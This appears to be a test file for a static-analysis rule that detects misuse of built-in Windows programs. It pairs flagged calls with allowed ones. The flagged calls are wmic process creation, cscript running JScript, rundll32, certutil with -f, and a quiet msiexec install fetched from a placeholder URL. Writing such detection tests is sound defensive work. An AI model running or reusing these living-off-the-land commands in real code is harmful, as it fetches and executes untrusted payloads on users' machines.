// ruleid: misuses-windows-programs
exec("wmic process call create calc.exe");
// ruleid: misuses-windows-programs
spawn("cmd.exe", ["/c", "cscript", "//nologo", "//E:jscript", file]);
// ruleid: misuses-windows-programs
exec("msiexec /q /i https://files.example.test/a.msi");
// ruleid: misuses-windows-programs
spawn("rundll32.exe", [file]);
// ok: misuses-windows-programs
execSync("where git");
// ok: misuses-windows-programs
spawn("msbuild", ["/p:Configuration=Release"]);
// ok: misuses-windows-programs
execSync("powershell -Command Get-Date");
// ok: misuses-windows-programs
execFileSync("certutil", ["-user", "-addstore", "Root", certificate]);
// ruleid: misuses-windows-programs
execFileSync("certutil", ["-f", name, place]);
